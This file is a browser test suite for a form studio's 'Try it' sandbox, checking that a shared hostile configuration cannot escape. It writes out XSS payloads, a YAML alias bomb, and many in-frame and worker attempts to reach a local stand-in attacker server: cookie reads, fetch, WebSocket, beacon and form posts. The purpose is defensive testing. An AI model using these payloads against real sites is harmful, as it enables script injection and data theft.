/** A link is a text of somebody else's. Whatever it holds, nothing leaves "Try it", and the page stays as it is. */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, onTestFinished, test } from 'vitest';
import { firstConfig } from '../../packages/studio/try/first.ts';
import { describeInBrowser } from './stage.ts';
import { fragmentOf, openTryIt, typed } from './try_it_stage.ts';

/** A server of the attacker's: how often somebody came. */
async function attacker() {
  const asked: string[] = [];
  const server = http.createServer((incoming, outgoing) => {
    asked.push(incoming.url ?? '');
    outgoing.setHeader('access-control-allow-origin', '*');
    outgoing.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { asked, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const markup = (evil: string) =>
  `</textarea></script><script>top.location='${evil}/s'</script><img src=${evil}/i onerror=alert(1)>`;

const config = (evil: string) => `
forms:
  evil:
    title: ${JSON.stringify(markup(evil))}
    confirmation: ${JSON.stringify(`${markup(evil)} [link](${evil}/l)`)}
    submit_label: <b>Send</b>
    redirect: ${evil}/redirected
    fields:
      - {name: name, label: ${JSON.stringify(markup(evil))}, placeholder: ${JSON.stringify(markup(evil))}, help: ${JSON.stringify(markup(evil))}}
      - {name: agree, type: checkbox, label: ${JSON.stringify(`I agree to the [terms](${evil}/terms)`)}}
    outputs:
      - {type: http_post, url: ${evil}/posted, static: {text: ${JSON.stringify(markup(evil))}}}
      - {type: smtp, host: smtp.example.com, from: a@example.com, to: b@example.com, subject: ${JSON.stringify(markup(evil))}, html: true}
`;

describeInBrowser('Try it with a hostile link', () => {
  test('shows all of it as text, sends nothing, and stays where it is', async () => {
    const evil = await attacker();
    const { page, form, address } = await openTryIt(fragmentOf(config(evil.origin)));
    let popups = 0;
    page.context().on('page', () => {
      popups += 1;
    });
    page.on('dialog', () => {
      popups += 1;
    });
    for (const mode of ['Element', 'No script']) {
      await page.locator('#look-mode').selectOption({ label: mode });
      await form.locator('[name=name]').fill(markup(evil.origin));
      await form.locator('a', { hasText: 'terms' }).click();
      await page.locator('.linked').getByText('the page stays here').waitFor();
      const before = await page.locator('.story').count();
      await form.locator('button[type=submit]').click();
      await expect.poll(() => page.locator('.story').count()).toBe(before + 1);
      await form.getByText('The visitor would now be here').waitFor();
      expect(await form.locator('script[src], img').count()).toBe(0);
    }
    expect(page.url().startsWith(address)).toBe(true);
    expect(evil.asked).toEqual([]);
    expect(popups).toBe(0);
  });

  test('even a script that ran in the frame would reach neither the page nor anybody else', async () => {
    const evil = await attacker();
    const { page, form, address } = await openTryIt(fragmentOf(config(evil.origin)));
    const text = await typed(page);
    await form.locator('form').waitFor();
    const reached = await form.locator('form').evaluate(async (_, origin) => {
      const tries: Record<string, () => unknown> = {
        page: () => parent.document.title,
        storage: () => localStorage.length,
        cookie: () => document.cookie,
        top: () => {
          (top as Window).location.href = `${origin}/top`;
          throw new Error('said nothing');
        },
        popup: () => window.open(`${origin}/popup`),
        inline: () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.ran = true';
          document.body.append(script);
          return (globalThis as { ran?: boolean }).ran;
        },
        socket: () =>
          new Promise((resolve) => {
            const socket = new WebSocket(origin.replace('http', 'ws'));
            socket.onopen = () => resolve('open');
            socket.onerror = () => resolve(undefined);
          }),
        beacon: () => navigator.sendBeacon(`${origin}/beacon`, 'x') && undefined,
        request: () =>
          new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.onload = () => resolve('loaded');
            request.onerror = () => resolve(undefined);
            request.open('GET', `${origin}/xhr`);
            request.send();
          }),
        fetch: () => fetch(`${origin}/fetch`),
        config: async () =>
          (await fetch('/studio/config/draft', { method: 'POST', body: 'forms: {}' })).status,
        image: () => {
          new Image().src = `${origin}/image`;
        },
        frame: () => {
          const frame = document.createElement('iframe');
          frame.src = `${origin}/frame`;
          document.body.append(frame);
        },
        style: () => {
          const style = document.createElement('style');
          style.textContent = `body{background:url(${origin}/style)}`;
          document.body.append(style);
        },
        prefetch: () => {
          const link = document.createElement('link');
          Object.assign(link, { rel: 'prefetch', href: `${origin}/prefetch` });
          document.head.append(link);
        },
        form: () => {
          const form = document.createElement('form');
          Object.assign(form, { action: `${origin}/form`, method: 'post' });
          document.body.append(form);
          const { submit } = HTMLFormElement.prototype;
          submit.call(form);
        },
        messages: () => parent.postMessage({ kind: 'show', markup: '<script>alert(1)</script>' }, '*'),
      };
      const reached: string[] = [];
      for (const [name, reach] of Object.entries(tries)) {
        const got = await Promise.resolve()
          .then(reach)
          .catch(() => undefined);
        if (got !== undefined && got !== null) reached.push(`${name}: ${got}`);
      }
      // Last, since it ends the page in the frame.
      setTimeout(() => {
        location.href = `${origin}/moved`;
      });
      return reached;
    }, evil.origin);
    expect(reached).toEqual([]);
    // The page answers as before: its own requests come after all of these.
    await page.getByRole('button', { name: 'Start over' }).click();
    await form.locator('[name=name]').waitFor();
    expect(await typed(page)).toBe(text);
    expect(page.url().startsWith(address)).toBe(true);
    expect(evil.asked).toEqual([]);
  });

  test('the worker, whatever would run in it, reaches nobody', async () => {
    const evil = await attacker();
    const { page } = await openTryIt();
    const reached = await page.workers()[0]?.evaluate(async (origin) => {
      const ways: (() => unknown)[] = [
        () => fetch(`${origin}/fetch`),
        () =>
          (self as unknown as { importScripts: (address: string) => void }).importScripts(`${origin}/script`),
        () => import(`${origin}/module`),
        () =>
          new Promise((resolve, reject) =>
            Object.assign(new WebSocket(origin.replace('http', 'ws')), { onopen: resolve, onerror: reject }),
          ),
      ];
      const ends = await Promise.allSettled(ways.map(async (way) => way()));
      return ends.map(({ status }) => status);
    }, evil.origin);
    expect(reached).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
    expect(evil.asked).toEqual([]);
  });

  test('a text made to grow is refused in words, and the page goes on', async () => {
    const { page } = await openTryIt();
    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefghij'].map((name, index) => `${name}: &${name} [${`*${'abcdefghi'[index]},`.repeat(9)}]`).join('\n')}\nforms: *j\n`;
    const deep = `forms: ${'['.repeat(30_000)}`;
    for (const text of [
      bomb,
      deep,
      `forms: {${'{'.repeat(20_000)}`,
      `forms:\n  f: {fields: [${'{name: a},'.repeat(6_000)}]}`,
    ]) {
      await page.evaluate((fragment) => {
        location.hash = fragment;
      }, fragmentOf(text));
      await page.locator('#problems li').first().waitFor();
      await page.evaluate((fragment) => {
        location.hash = fragment;
      }, fragmentOf(firstConfig));
      await page.frameLocator('#frame').getByLabel('Name').waitFor();
    }
  });
});
